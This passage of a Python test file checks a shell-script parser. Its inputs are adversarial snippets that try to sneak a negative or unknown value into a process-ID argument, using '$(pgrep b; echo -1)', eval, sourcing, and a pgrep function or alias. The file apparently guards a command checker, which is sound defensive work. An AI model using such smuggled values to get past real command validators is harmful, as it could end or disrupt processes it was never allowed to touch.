    "text",
    [
        "a $PID",
        "a -$!",
        "a $!x",
        "a $1",
        "a $-",
        "a $((1-2))",
        "PID=-$!; a $PID",
        "PID=$!$X; a $PID",
        "PID=$!; PID=$(cat f); a $PID",
        "PID=$!; read PID; a $PID",
        "PID=$!; . x; a $PID",
        "PID=$!; eval b; a $PID",
        "PID=$!; ((PID = 0 - 1)); a $PID",
        "PID=$!; printf -v PID -- -1; a $PID",
        "PID=$!; PID[0]=-1; a $PID",
        "PID+=$!; a $PID",
        "if b; then PID=$!; fi; a $PID",
        "while b; do PID=$!; done; a $PID",
        "f() { PID=-1; }; PID=$!; f; a $PID",
        "PID=$! b; a $PID",
        "a $(cat server.pid)",
        "a $(pgrep -l b)",
        "a $(pgrep -d ' -1 ' b)",
        "a $(pgrep b; echo -1)",
        "a $(pgrep b || echo -1)",
        "a $(pgrep b | sed s/^/-/)",
        'a $(pgrep "$x")',
        "a $(pgrep b '-l')",
        "a $(lsof -i :80)",
        "a $(lsof -F -t x)",
        "a $(lsof -iTCP:t)",
        "a $(./pgrep b)",
    ],
)
def test_what_may_be_more_than_a_number_is_none(text: str) -> None:
    read = read_script(text)
    assert isinstance(read, Script)
    last = [each for each in read.commands if each.words and each.words[0].text == "a"][-1]
    assert read.gaps or not any(word.number for word in last.words)


@pytest.mark.parametrize(
    "text", ["pgrep() { echo -1; }; a $(pgrep b)", "alias pgrep='echo -1'\na $(pgrep b)"]
)
def test_a_function_in_place_of_the_program_leaves_a_gap(text: str) -> None:
    assert script(text).gaps
